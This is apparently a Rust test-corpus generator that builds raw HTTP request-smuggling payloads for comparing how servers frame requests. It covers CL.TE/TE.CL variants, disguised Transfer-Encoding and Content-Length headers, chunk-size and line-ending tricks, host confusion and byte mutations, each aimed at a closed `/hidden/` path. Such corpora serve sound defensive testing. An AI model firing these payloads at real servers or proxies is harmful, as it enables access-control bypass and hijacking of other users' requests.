//! Raw messages in which one server may see a request that another does not. Each has a number, which ends every path
//! in it. Smuggled requests ask for `/hidden/NUMBER`, behind a gate that is closed for all.

/// The bytes of one connection.
#[derive(Debug, Clone)]
pub(crate) struct Message {
    /// The name of the attack.
    pub(crate) name: String,
    /// The bytes.
    pub(crate) bytes: Vec<u8>,
}

/// Digits of a number.
const DIGITS: usize = 5;
/// `@` stands for the number.
const HIDDEN: &str = "GET /hidden/@ HTTP/1.1\r\nHost: a\r\n\r\n";

/// Returns all messages, numbered by their index.
pub(crate) fn all() -> Vec<Message> {
    let mut messages = Messages::default();
    messages.two_lengths();
    messages.lengths();
    messages.chunk_sizes();
    messages.extensions_and_trailers();
    messages.line_ends();
    messages.hosts();
    messages.versions();
    messages.expectations();
    messages.pipelines();
    messages.mutations();
    let numbered = messages.0.into_iter().enumerate();
    numbered
        .map(|(number, message)| Message {
            bytes: with_number(&message.bytes, number),
            ..message
        })
        .collect()
}

fn with_number(bytes: &[u8], number: usize) -> Vec<u8> {
    let number = format!("{number:0DIGITS$}");
    let numbered = bytes.iter().flat_map(|byte| match byte {
        b'@' => number.as_bytes(),
        other => std::slice::from_ref(other),
    });
    numbered.copied().collect()
}

#[derive(Default)]
struct Messages(Vec<Message>);

impl Messages {
    fn add(&mut self, name: impl Into<String>, text: &str) {
        let (name, bytes) = (name.into(), text.as_bytes().to_vec());
        self.0.push(Message { name, bytes });
    }

    /// CL.TE, TE.CL and TE.TE: a length and a coding, in every disguise and in both orders.
    fn two_lengths(&mut self) {
        for coding in codings() {
            for length in [
                "Content-Length: #\r\n",
                "",
                "Content-length:#\r\n",
                "Content-Length: 4\r\n",
            ] {
                for swapped in [false, true] {
                    if swapped && length.is_empty() {
                        continue;
                    }
                    let fields = if swapped {
                        format!("{length}{coding}\r\n")
                    } else {
                        format!("{coding}\r\n{length}")
                    };
                    let body = format!("0\r\n\r\n{HIDDEN}");
                    let fields = fields.replace('#', &(body.len() - 1 + DIGITS).to_string());
                    let name = format!("a coding beside a length: {fields:?}");
                    self.add(
                        &name,
                        &format!("POST /open/@ HTTP/1.1\r\nHost: a\r\n{fields}\r\n{body}"),
                    );
                }
            }
            let body = format!("{:x}\r\n{HIDDEN}\r\n0\r\n\r\n", HIDDEN.len() - 1 + DIGITS);
            self.add(
                format!("a request within a chunk: {coding:?}"),
                &format!("POST /open/@ HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n{coding}\r\n\r\n{body}"),
            );
        }
    }

    /// CL.0 and 0.CL: lengths in every disguise, on methods whose bodies servers forget.
    fn lengths(&mut self) {
        for length in content_lengths() {
            for method in ["POST", "GET", "HEAD", "OPTIONS", "DELETE"] {
                self.add(
                    format!("{method} with {length:?}"),
                    &format!("{method} /open/@ HTTP/1.1\r\nHost: a\r\n{length}\r\n\r\n{HIDDEN}"),
                );
            }
            self.add(
                format!("an early answer to {length:?}"),
                &format!("POST /open/early/@ HTTP/1.1\r\nHost: a\r\n{length}\r\n\r\n{HIDDEN}"),
            );
        }
    }

    /// Sizes of chunks that servers read as others, of the first, a middle and the last chunk.
    fn chunk_sizes(&mut self) {
        let long = HIDDEN.len() - 1 + DIGITS;
        for size in sizes() {
            for end in ["\r\n", "\n", "\r", ""] {
                for chunk in [
                    format!("{size}{end}{HIDDEN}\r\n0\r\n\r\n"),
                    format!("3\r\nabc\r\n{size}{end}{HIDDEN}\r\n0\r\n\r\n"),
                ] {
                    let chunk = chunk.replace('#', &format!("{long:x}"));
                    self.add(
                        format!("a chunk of size {size:?} and {end:?}"),
                        &format!(
                            "POST /open/@ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n{chunk}"
                        ),
                    );
                }
            }
        }
        for after in ["", "\n", "\r", "X", "\r\nX", "\n\n", " \r\n", "\r\r\n", "\0\r\n"] {
            for last in [
                "0\r\n\r\n",
                "0\n\n",
                "0\r\n\n",
                "0\n\r\n",
                "00\r\n\r\n",
                "0 \r\n\r\n",
                "-0\r\n\r\n",
            ] {
                self.add(
                    format!("a chunk that ends in {after:?}, and then {last:?}"),
                    &format!(
                        "POST /open/@ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc{after}{last}{HIDDEN}"
                    ),
                );
            }
        }
    }

    /// Extensions in which a line ends for some, and trailers that some take for a head.
    fn extensions_and_trailers(&mut self) {
        let head = "POST /open/@ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n";
        let inner = HIDDEN.len() - 1 + DIGITS;
        for extension in [
            ";",
            ";a",
            ";a=b",
            ";a=\"b\"",
            ";a=\"b\r\n",
            ";a=\"\n",
            ";a=\"\\\"",
            "; a = b",
            " ;a",
            "\t;a",
            ";\n",
            ";\r",
            ";\0",
            ";a\nX",
            ";a\rX",
            ";=",
            ";;",
            ";a=\"b;0\r\n\r\n\"",
            ",a",
            ";\u{e9}",
        ] {
            for size in ["3", "#", "0"] {
                let size = size.replace('#', &format!("{inner:x}"));
                let data = if size == "3" { "abc" } else { HIDDEN };
                self.add(
                    format!("the extension {extension:?} of a chunk of {size}"),
                    &format!("{head}\r\n{size}{extension}\r\n{data}\r\n0\r\n\r\n{HIDDEN}"),
                );
            }
        }
        let long = format!(";{}", "x".repeat(20_000));
        self.add(
            "a long extension",
            &format!("{head}\r\n3{long}\r\nabc\r\n0\r\n\r\n{HIDDEN}"),
        );
        for trailer in [
            "Content-Length: 40",
            "Transfer-Encoding: chunked",
            "Host: b",
            "A: b",
            "A : b",
            " A: b",
            "A",
            "\0: b",
            "A: \0",
            "A: b\n",
            "A: b\r",
            "GET /hidden/@ HTTP/1.1\r\nHost: a",
            "X-Tenant-Id: acme",
            "Connection: close",
            ": b",
        ] {
            for announced in [
                "",
                "Trailer: A\r\n",
                "TE: trailers\r\n",
                "Connection: TE, Trailer\r\nTE: trailers\r\n",
            ] {
                self.add(
                    format!("the trailer {trailer:?}, {announced:?}"),
                    &format!("{head}{announced}\r\n3\r\nabc\r\n0\r\n{trailer}\r\n\r\n{HIDDEN}"),
                );
            }
        }
    }

    /// Line ends, NULs, folding and spaces where no server agrees with the next.
    fn line_ends(&mut self) {
        const PLACES: [&str; 12] = [
            "POST%1 /open/@ HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
            "POST /open/@%1 HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
            "POST /open/@ HTTP/1.1%1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
            "%1POST /open/@ HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
            "POST /open/@ HTTP/1.1\r\nHost%1: a\r\nContent-Length: 3\r\n\r\nabc",
            "POST /open/@ HTTP/1.1\r\nHost:%1 a\r\nContent-Length: 3\r\n\r\nabc",
            "POST /open/@ HTTP/1.1\r\nHost: a%1\r\nContent-Length: 3\r\n\r\nabc",
            "POST /open/@ HTTP/1.1\r\nHost: a\r\n%1Content-Length: 3\r\n\r\nabc",
            "POST /open/@ HTTP/1.1\r\nHost: a\r\nContent-Length%1: 3\r\n\r\nabc",
            "POST /open/@ HTTP/1.1\r\nHost: a\r\nContent-Length: 3%1\r\n\r\nabc",
            "POST /open/@ HTTP/1.1\r\nHost: a\r\nX: y%1Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
            "POST /open/@ HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nX: y%1\r\nabc",
        ];
        for place in PLACES {
            for put in [
                "\n", "\r", "\r\r", "\n\n", "\r\n\r", "\0", "\r\n ", "\r\n\t", "\n ", " ", "\t", "\u{b}",
                "\u{c}", "\u{85}", "\u{a0}", "\r\n\r\n", ":", "\r\nX", "\x08", "\u{feff}",
            ] {
                let text = place.replace("%1", put);
                self.add(format!("{put:?} in {place:?}"), &format!("{text}{HIDDEN}"));
            }
        }
    }

    /// Absolute targets and hosts that differ, twice, or with a request inside.
    fn hosts(&mut self) {
        for target in [
            "http://a/open/@",
            "http://b/open/@",
            "http://a:80/open/@",
            "HTTP://a/open/@",
            "https://a/open/@",
            "http://u@a/open/@",
            "http://a\\@b/open/@",
            "//a/open/@",
            "a/open/@",
            "http:/open/@",
            "http:///open/@",
            "/open/@?x=http://b/hidden/@",
            "/open/@#/hidden/@",
            "/open/@ /hidden/@",
            "*",
            "a:80",
        ] {
            for host in [
                "Host: a\r\n",
                "",
                "Host: b\r\n",
                "Host: a\r\nHost: b\r\n",
                "Host:\r\n",
                "Host: a/hidden/@\r\n",
            ] {
                self.add(
                    format!("the target {target:?} with {host:?}"),
                    &format!("GET {target} HTTP/1.1\r\n{host}\r\n"),
                );
            }
        }
    }

    /// Versions that have no chunks, or are none.
    fn versions(&mut self) {
        for version in [
            "HTTP/1.0",
            "HTTP/0.9",
            "HTTP/1.2",
            "HTTP/2.0",
            "HTTP/1.01",
            "HTTP/01.1",
            "http/1.1",
            "HTTP/1,1",
            "HTTP/1.1 ",
            "",
            "HTTP/11",
            "HTTP/1.10",
            "HTCPCP/1.0",
        ] {
            for fields in [
                "Transfer-Encoding: chunked\r\n",
                "Transfer-Encoding: chunked\r\nConnection: keep-alive\r\n",
                "Content-Length: 5\r\nConnection: keep-alive\r\n",
                "Connection: keep-alive\r\n",
                "Content-Length: 5\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n",
            ] {
                self.add(
                    format!("{version:?} with {fields:?}"),
                    &format!("POST /open/@ {version}\r\nHost: a\r\n{fields}\r\n0\r\n\r\n{HIDDEN}"),
                );
            }
        }
    }

    /// Upgrades, expectations and connection options that change who reads what follows.
    fn expectations(&mut self) {
        for fields in [
            "Upgrade: websocket\r\nConnection: Upgrade\r\n",
            "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n",
            "Upgrade: TLS/1.0\r\nConnection: Upgrade\r\n",
            "Expect: 100-continue\r\n",
            "Expect: 100-Continue\r\n",
            "Expect: 200-ok\r\n",
            "Expect: y 100-continue\r\n",
            "Expect: 100-continue\r\nExpect: 100-continue\r\n",
            "Connection: Content-Length\r\n",
            "Connection: Transfer-Encoding\r\n",
            "Connection: close, keep-alive\r\n",
            "Connection: Host\r\n",
            "TE: chunked\r\n",
            "Proxy-Connection: keep-alive\r\n",
            "Keep-Alive: 300\r\n",
        ] {
            for length in [
                "Content-Length: 3\r\n",
                "Transfer-Encoding: chunked\r\n",
                "",
                "Content-Length: 0\r\n",
            ] {
                for method in ["POST", "GET"] {
                    for path in ["/open/@", "/open/early/@"] {
                        let body = match length {
                            "Content-Length: 3\r\n" => "abc",
                            "Transfer-Encoding: chunked\r\n" => "3\r\nabc\r\n0\r\n\r\n",
                            _ => "",
                        };
                        self.add(
                            format!("{method} {path} with {fields:?} and {length:?}"),
                            &format!(
                                "{method} {path} HTTP/1.1\r\nHost: a\r\n{fields}{length}\r\n{body}{HIDDEN}"
                            ),
                        );
                    }
                }
            }
        }
    }

    /// Good requests one behind the other, early answers and refused ones among them.
    fn pipelines(&mut self) {
        const GOOD: [&str; 8] = [
            "GET /open/@ HTTP/1.1\r\nHost: a\r\n\r\n",
            "POST /open/@ HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
            "POST /open/@ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n",
            "HEAD /open/@ HTTP/1.1\r\nHost: a\r\n\r\n",
            "POST /open/early/@ HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
            "POST /hidden/@ HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
            "POST /hidden/@ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n",
            "GET /nowhere/@ HTTP/1.1\r\nHost: a\r\n\r\n",
        ];
        for first in GOOD {
            for second in GOOD {
                self.add("requests sent ahead", &format!("{first}{second}{HIDDEN}"));
            }
        }
    }

    /// Adds each third message with one byte of its framing changed.
    fn mutations(&mut self) {
        const BYTES: &[u8] = b"\r\n\0\t :;,0\x0b\x7f\xff";
        let mut random = 0x2545_f491_4f6c_dd1d_u64;
        for message in self.0.clone().into_iter().step_by(3) {
            let mut bytes = message.bytes;
            for _ in 0..2 {
                random ^= random << 13;
                random ^= random >> 7;
                random ^= random << 17;
                let at = usize::try_from(random >> 8).unwrap_or_default() % bytes.len();
                let put = BYTES[usize::try_from(random & 0xff).unwrap_or_default() % BYTES.len()];
                if random & 0x800 == 0 && bytes[at] != b'@' {
                    bytes[at] = put;
                } else {
                    bytes.insert(at, put);
                }
            }
            let name = format!("two bytes changed in: {}", message.name);
            self.0.push(Message { name, bytes });
        }
    }
}

/// `Transfer-Encoding: chunked` in every disguise that some server sees through.
pub(super) fn codings() -> Vec<&'static str> {
    vec![
        "Transfer-Encoding: chunked",
        "transfer-encoding: chunked",
        "TRANSFER-ENCODING: CHUNKED",
        "Transfer-Encoding:chunked",
        "Transfer-Encoding : chunked",
        "Transfer-Encoding\t: chunked",
        " Transfer-Encoding: chunked",
        "Transfer-Encoding:\tchunked",
        "Transfer-Encoding: \tchunked",
        "Transfer-Encoding: chunked ",
        "Transfer-Encoding: chunked\t",
        "Transfer-Encoding:\x0bchunked",
        "Transfer-Encoding: \"chunked\"",
        "Transfer-Encoding: 'chunked'",
        "Transfer-Encoding: chunked;q=1",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: identity, chunked",
        "Transfer-Encoding: gzip, chunked",
        "Transfer-Encoding: chunked, chunked",
        "Transfer-Encoding: , chunked",
        "Transfer-Encoding: chunked,",
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding: chunkedx",
        "Transfer-Encoding: cow",
        "Transfer-Encoding: identity",
        "Transfer-Encoding:",
        "Transfer-Encoding: \r\n chunked",
        "Transfer-Encoding:\r\n chunked",
        "Transfer-Encoding:\n chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
        "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        "Transfer_Encoding: chunked",
        "Transfer.Encoding: chunked",
        "Transfer Encoding: chunked",
        "TransferEncoding: chunked",
        "Transfer-Encoding\0: chunked",
        "Transfer-Encoding: chunked\0",
        "X: y\nTransfer-Encoding: chunked",
        "X: y\rTransfer-Encoding: chunked",
        "X: y\r\n\rTransfer-Encoding: chunked",
        "X:\r\n Transfer-Encoding: chunked",
        "Transfer-Encoding: chun\x00ked",
        "Transfer-Encoding: chunk\r\n ed",
        "Transfer-Encoding: \u{e9}chunked",
        "Content-Encoding: chunked",
        "X-Transfer-Encoding: chunked",
        "TE: chunked\r\nTransfer-Encoding: chunked",
        "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: CHUNKED",
        "Transfer-Encoding: Chunked",
        "Transfer\u{2010}Encoding: chunked",
        "Transfer-Encoding\u{a0}: chunked",
        "Transfer-Encoding: chunked\x0c",
    ]
}

/// `Content-Length` in every disguise; those that are plain numbers are those of what follows, or of less.
pub(super) fn content_lengths() -> Vec<&'static str> {
    vec![
        "Content-Length: 0",
        "Content-Length: 5",
        "Content-Length: +5",
        "Content-Length: -5",
        "Content-Length: 05",
        "Content-Length: 0x5",
        "Content-Length: 5 ",
        "Content-Length: 5,5",
        "Content-Length: 5, 6",
        "Content-Length: 5;",
        "Content-Length: 5 5",
        "Content-Length: 5.0",
        "Content-Length: 5e0",
        "Content-Length: ",
        "Content-Length:5",
        "Content-Length : 5",
        "Content-Length\t: 5",
        " Content-Length: 5",
        "Content_Length: 5",
        "Content.Length: 5",
        "Content-Length: 5\r\nContent-Length: 5",
        "Content-Length: 5\r\nContent-Length: 0",
        "Content-Length: 0\r\nContent-Length: 5",
        "Content-Length: 5\r\ncontent-length: 6",
        "Content-Length: 4294967301",
        "Content-Length: 18446744073709551621",
        "Content-Length: 99999999999999999999999",
        "Content-Length: \x005",
        "Content-Length: 5\0",
        "Content-Length:\r\n 5",
        "Content-Length: 5\n",
        "Content-Length: 5\r",
        "Content-Length: \"5\"",
        "Content-Length: five",
        "X: y\nContent-Length: 5",
        "X: y\rContent-Length: 5",
        "Connection: Content-Length\r\nContent-Length: 5",
        "Content-Length: 1_0",
        "Content-Length: \u{665}",
        "Content-Length: 38",
        "Content-Length: 39",
        "Content-Length: 40",
        "Content-Length: 41",
    ]
}

/// Sizes of a chunk; `#` stands for the size of what is smuggled.
pub(super) fn sizes() -> Vec<&'static str> {
    vec![
        "#",
        "0#",
        "00000000#",
        "000000000000000000000000#",
        "0x#",
        "0X#",
        "+#",
        "-#",
        " #",
        "# ",
        "\t#",
        "#\t",
        "#_0",
        "_#",
        "1_#",
        "#g",
        "g#",
        "\"#\"",
        "#,",
        "#.0",
        "1000000000000000#",
        "f000000000000000#",
        "10000000000000000000#",
        "ffffffffffffffff",
        "8000000000000000",
        "1000000000",
        "0",
        "0 ",
        "",
        " ",
        ";",
        "\0#",
        "#\0",
        "\u{b}#",
        "\u{665}",
        "%32",
        "0\r",
        "#\u{a0}",
    ]
}
